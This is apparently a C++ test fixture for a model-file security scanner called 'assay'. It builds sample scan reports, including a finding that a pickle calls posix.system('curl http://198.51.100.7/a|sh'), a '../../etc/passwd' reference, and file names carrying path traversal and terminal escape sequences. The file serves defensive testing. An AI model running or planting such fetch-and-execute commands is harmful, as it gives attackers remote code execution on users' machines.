#include "tests/support/report_samples.h"

#include <algorithm>
#include <utility>

namespace assay::test {
namespace {

using namespace std::string_literals;

std::string digest(char digit) { return std::string(64, digit); }

RuleInfo rule(std::string id, std::string title, Severity severity,
              std::vector<std::string> references) {
  return {.id = std::move(id),
          .title = std::move(title),
          .severity = severity,
          .why = "Loading the file executes this before any model code runs",
          .fix = "Ask the publisher for a safetensors file.",
          .references = std::move(references),
          .tags = {"code-execution"}};
}

Artifact artifact(std::string path, std::string format, Status status) {
  Artifact out;
  out.path = std::move(path);
  out.size = 4096;
  out.sha256 = digest('a');
  out.formats = {format};
  out.format = std::move(format);
  out.status = status;
  return out;
}

void count(ScanResult& result) {
  result.summary.files = result.files.size();
  result.summary.gaps = result.gaps.size();
  std::fill(std::begin(result.summary.findings), std::end(result.summary.findings), 0);
  for (const Finding& finding : result.findings) {
    ++result.summary.findings[std::to_underlying(finding.severity)];
  }
}

ScanResult empty_result() {
  ScanResult result;
  result.tool = {"assay", "0.1.0", "sha256:" + digest('c'), "full", {}};
  result.source = {"empty", "path", ""};
  result.verdict = Verdict::incomplete;
  result.exit_code = 3;
  return result;
}

ScanResult clean_result() {
  ScanResult result = empty_result();
  result.source.uri = "clean/";
  result.verdict = Verdict::pass;
  result.exit_code = 0;
  for (const char* name : {"a.npy", "b.txt", "c.bin", "d", "e", "f", "g"}) {
    result.files.push_back(artifact(name, "npy", Status::safe));
  }
  result.files[3].sha256.clear();
  result.files[4].left_out = true;
  result.files[4].status = Status::unscanned;
  count(result);
  return result;
}

ScanResult unprotected_result() {
  ScanResult result = clean_result();
  result.tool.sandbox = "none";
  result.tool.sandbox_missing = {"switched off: files are read in this process"};
  return result;
}

// The optional layer is missing, which leaves the level as it is.
ScanResult without_optional_layer() {
  ScanResult result = clean_result();
  result.tool.sandbox_missing = {"network-namespace: EPERM: Operation not permitted"};
  return result;
}

ScanResult gaps_result() {
  ScanResult result = empty_result();
  result.source.uri = "gaps";
  result.exit_code = 2;
  for (int i = 0; i < 10; ++i) {
    const std::string path = "file-" + std::to_string(i);
    result.files.push_back(artifact(path, "zip", Status::error));
    result.gaps.push_back({path, static_cast<ParseErrc>(i), i % 2 ? "" : "header needs 255 bytes",
                           i == 9 ? ~std::uint64_t{0} : static_cast<std::uint64_t>(i)});
  }
  result.gaps.push_back({"", ParseErrc::unreadable, "permission denied", 0});
  result.gaps.push_back({"nowhere!/x", ParseErrc::not_fetched, "a pointer", 0});
  count(result);
  return result;
}

ScanResult deep_result() {
  ScanResult result = ordinary_result();
  Artifact inner = artifact("", "zip", Status::unsafe);
  std::string path = "bomb.zip";
  std::vector<std::string> paths;
  for (int i = 0; i < 60; ++i)
    paths.push_back(std::exchange(path, path + "!/" + "n" + std::to_string(i)));
  inner.path = paths.back();
  for (std::size_t i = paths.size() - 1; i-- > 0;) {
    Artifact outer = artifact(paths[i], "zip", Status::unsafe);
    outer.members.push_back(std::move(inner));
    inner = std::move(outer);
  }
  result.findings[0].path = paths.back();
  result.gaps.push_back({paths.back(), ParseErrc::over_budget, "depth limit of 60", 1});
  result.files.push_back(std::move(inner));
  count(result);
  return result;
}

// Every kind of fact, one of them more often than a report lists.
std::vector<Fact> all_facts() {
  std::vector<Fact> facts;
  const auto add = [&](FactValue value) { facts.push_back({41, 12, std::move(value)}); };
  add(Import{"posix", "system"});
  Call call;
  call.callee = {"posix", "system"};
  call.expression = "posix.system('echo \xff\n')";
  add(call);
  add(CodeBlob{"python", "import os\n" + std::string(5000, 'x')});
  add(CodeBlob{"python", std::string(253, 'x') + "\xe6\xa8\xa1\xe5"});
  add(Reference{"external-data", "../../etc/passwd"});
  add(Member{"archive/data.pkl", "stored", 100, 200});
  add(Metadata{"license", "mit"});
  add(Metadata{"producer", "py\x1b[31mtorch"});
  add(Metadata{"license", "apache-2.0"});
  add(Metadata{"bad\xff", ""});
  add(Embedded{"elf"});
  add(Anomaly{"zip.local-name-differs", "a\x1b[0m / b"});
  add(Match{"suspicious_string",
            "\x7f"
            "ELF\x01",
            "high", "An \"executable\""});
  add(Signature{"sigstore", "rejected", "ci@acme.example", "tlog.set", "the log did not sign it"});
  for (int i = 0; i < 1'100; ++i) {
    add(Anomaly{"zip.trailing", std::to_string(i)});
    add(Metadata{"key" + std::to_string(i % 700), std::to_string(i)});
    add(Tensor{"w", "F" + std::to_string(i), {2, 3}, 24});
  }
  add(Tensor{"huge", "F32", {~std::uint64_t{0}, 2}, ~std::uint64_t{0}});
  add(Tensor{"none", "F32", {~std::uint64_t{0}, 0}, 0});
  return facts;
}

}  // namespace

// Evidence of each field; text that may come from a file is `text`.
EvidenceRecord evidence_record(const std::string& path, const std::string& text) {
  provenance::Evidence evidence{.kind = "oms", .method = "sigstore"};
  evidence.checks.pass("tlog.set");
  evidence.checks.warn("oms.order", "the files are listed in an order of " + text);
  evidence.checks.fail("model.changed", text + " is not as it was signed");
  evidence.signer = provenance::Signer{
      text, "https://issuer.example", digest('c'), {{"source_repository_uri", text}, {"run", "1"}}};
  evidence.signer_checked = true;
  evidence.times = {{"rekor", "https://log.example", 1'760'062'340}};
  evidence.coverage = {{path, provenance::CoverageState::excluded_by_default},
                       {text, provenance::CoverageState::changed}};
  evidence.properties = {{"log_index", "7"}, {"dependency", text}, {"dependency", "b"}};
  return {path, std::move(evidence)};
}

ScanResult ordinary_result() {
  ScanResult result = empty_result();
  result.source = {"hf://acme/sentiment@main", "hub", "4f2c9e1d0f7b4c1e9c54c44f4a0a3b3b1f0e2d1c"};
  result.verdict = Verdict::fail;
  result.exit_code = 1;
  result.rules = {
      rule("GEN-CODE-001", "Custom code is named by {file}", Severity::medium,
           {"CWE-829", "https://huggingface.co/docs/transformers/custom_models"}),
      rule("PKL-EXEC-001", "Unpickling runs {callee}", Severity::critical, {"CWE-502", "CWE-78"}),
      rule("ZIP-NAME-001", "Zip names disagree: {detail}", Severity::high,
           {"CWE-436", "CVE-2025-1944"})};
  Artifact model = artifact("pytorch_model.bin", "torch-zip", Status::unsafe);
  model.size = 1'325'400'000;
  Artifact data = artifact("pytorch_model.bin!/archive/data.pkl", "pickle", Status::unsafe);
  data.imports = {{{"collections", "OrderedDict"}, "innocuous"},
                  {{"posix", "system"}, "dangerous"},
                  {{"torch._utils", "_rebuild_tensor_v2"}, "innocuous"}};
  model.members = {std::move(data),
                   artifact("pytorch_model.bin!/archive/version", "text", Status::safe)};
  Artifact weights = artifact("model.safetensors", "safetensors", Status::safe);
  weights.size = 267'832'000;
  weights.sha256 = digest('b');
  for (int i = 0; i < 201; ++i) {
    weights.facts.push_back({8, 0, Tensor{"w" + std::to_string(i), "F32", {768, 4}, 12'288}});
  }
  result.files = {artifact("README.md", "text", Status::safe),
                  artifact("config.json", "text", Status::safe), std::move(weights),
                  artifact("modeling_acme.py", "text", Status::caution), std::move(model)};
  Finding run{.rule = "PKL-EXEC-001",
              .severity = Severity::critical,
              .title = "Unpickling runs posix.system",
              .message = "Loading the pickle calls posix.system('curl http://198.51.100.7/a|sh').",
              .path = "pytorch_model.bin!/archive/data.pkl",
              .offset = 41,
              .size = 12,
              .evidence = {{"call", "posix.system('curl http://198.51.100.7/a|sh')"},
                           {"opcodes", "GLOBAL posix system, REDUCE"}},
              .fix = "Ask the publisher for a safetensors file.",
              .references = {"CWE-502", "CWE-78"},
              .fingerprint = "9f86d081884c7d659a2feaa0c55ad015"};
  Finding code{.rule = "GEN-CODE-001",
               .severity = Severity::medium,
               .title = "Custom code is named by config.json",
               .message = "config.json names modeling_acme.py: trust_remote_code runs it.",
               .path = "modeling_acme.py",
               .evidence = {{"auto_map", "AutoModel: modeling_acme.AcmeModel"}},
               .fix = "Read the code before trusting it.",
               .references = {"CWE-829", "https://huggingface.co/docs/transformers/custom_models"},
               .fingerprint = "60303ae22b998861bce3b28f33eec1be"};
  Finding accepted = code;
  accepted.rule = "ZIP-NAME-001";
  accepted.references = {"CWE-436", "CVE-2025-1944"};
  accepted.path = "pytorch_model.bin";
  result.findings = {std::move(code), std::move(run)};
  result.suppressed = {std::move(accepted)};
  result.gaps = {{"pytorch_model.bin!/archive/data/3", ParseErrc::encrypted,
                  "the member is encrypted with AES-256, no key was given", 0x1f3a}};
  result.provenance = {evidence_record("model.sig", "config.json")};
  count(result);
  result.summary.members = 2;
  result.summary.bytes_total = 1'593'244'288;
  result.summary.bytes_read = 214'000;
  return result;
}

ScanResult partly_sandboxed_result() {
  ScanResult result = clean_result();
  result.source.uri = "partly/";
  result.files.resize(1);
  result.tool.sandbox = "partial";
  result.tool.sandbox_missing = {"network-namespace: EPERM: Operation not permitted",
                                 "landlock: ENOSYS: Function not implemented",
                                 "seccomp: EINVAL: Invalid argument"};
  count(result);
  return result;
}

ScanResult hostile_result() {
  ScanResult result = ordinary_result();
  result.source = {"\x1b]0;owned\x07/\xff", "path", "\xe2\x80\xae"};
  const std::vector<std::string> names{"a\xff",
                                       "a\\xff",
                                       "new\nline",
                                       "\x1b[2Jclear",
                                       "exe\xe2\x80\xaetxt.bin",
                                       "100% {0} [x](http://e.vil)",
                                       "c:/windows",
                                       "/absolute",
                                       "//host/share",
                                       "../up",
                                       "q?a=1#frag",
                                       "quote\"'<&>",
                                       "\xed\xa0\x80",
                                       "nul\0byte"s,
                                       "x!/y",
                                       "",
                                       "SAFE  ok.bin",
                                       std::string(5000, 'n'),
                                       "\xe6\xa8\xa1\xe5\x9e\x8b.bin",
                                       "same",
                                       "same",
                                       "\xf3\xa0\x81\x81",
                                       "a\xef\xbf\xbe"};
  result.tool.sandbox = "partial";
  result.tool.sandbox_missing = names;
  for (const std::string& name : names) {
    result.provenance.push_back(evidence_record(name, name));
    Artifact file = artifact(name, "torch-zip", Status::unsafe);
    file.members = {artifact(name + "!/" + name, "pickle", Status::unsafe),
                    artifact(name + "!/" + name, "pickle", Status::error)};
    file.members[0].imports = {{{name, "x.y\xff"}, "dangerous"}, {{"", "top"}, "suspicious"}};
    result.files.push_back(std::move(file));
    for (const std::string& path : {name, name + "!/" + name, name + "!/absent"}) {
      result.findings.push_back(
          {.rule = "PKL-EXEC-001",
           .severity = Severity::high,
           .title = "Runs " + name + ".",
           .message = name == "same" ? "" : "It runs {5} " + name,
           .path = path,
           .offset = ~std::uint64_t{0},
           .size = 3'000'000'000,
           .evidence = {{name, name}, {"b", "1"}, {name, "2"}},
           .fix = name,
           .references = {name, "CWE-0", "CWE-9999999999999", "CWE-94", "CWE-94", "https://a b",
                          "https://ok.example/x?y=1#z", "https://bad.example/%zz"},
           .fingerprint = "same"});
      result.gaps.push_back({path, ParseErrc::malformed, "expected " + name, 7});
    }
  }
  // A name twice in one archive, and a finding in what only the second holds.
  Artifact archive = artifact("twice.zip", "zip", Status::unsafe);
  archive.members = {artifact("twice.zip!/in.zip", "zip", Status::safe),
                     artifact("twice.zip!/in.zip", "zip", Status::unsafe)};
  archive.members[1].members = {artifact("twice.zip!/in.zip!/x.pkl", "pickle", Status::unsafe)};
  result.files.push_back(std::move(archive));
  result.findings.push_back(result.findings[1]);
  result.findings.back().path = "twice.zip!/in.zip!/x.pkl";
  Finding unknown = result.findings.front();
  unknown.rule = "my_yara_rule\xff";
  unknown.path = "";
  result.findings.push_back(unknown);
  result.files.front().facts = all_facts();
  count(result);
  return result;
}

ScanResult large_result(std::size_t files, std::size_t findings) {
  ScanResult result = ordinary_result();
  for (std::size_t i = result.files.size(); i < files; ++i) {
    result.files.push_back(artifact("shards/model-" + std::to_string(i) + ".safetensors",
                                    "safetensors", Status::safe));
    result.files.back().facts = {{0, 8, Metadata{"format", "pt"}},
                                 {8, 64, Tensor{"w", "F32", {16}, 64}}};
  }
  for (std::size_t i = result.findings.size(); i < findings; ++i) {
    Finding finding = result.findings[i % 2];
    finding.path = result.files[i % result.files.size()].path;
    finding.offset = i;
    finding.fingerprint = std::to_string(i);
    result.findings.push_back(std::move(finding));
  }
  count(result);
  return result;
}

std::vector<Sample> report_samples() {
  ScanResult without_catalog = ordinary_result();
  without_catalog.rules.clear();
  return {{"empty", empty_result()},
          {"clean", clean_result()},
          {"ordinary", ordinary_result()},
          {"no-catalog", std::move(without_catalog)},
          {"partial", partly_sandboxed_result()},
          {"unprotected", unprotected_result()},
          {"optional", without_optional_layer()},
          {"gaps", gaps_result()},
          {"deep", deep_result()},
          {"hostile", hostile_result()},
          {"many", large_result(40, 1'000)},
          {"large", large_result(200, 10'000)}};
}

}  // namespace assay::test
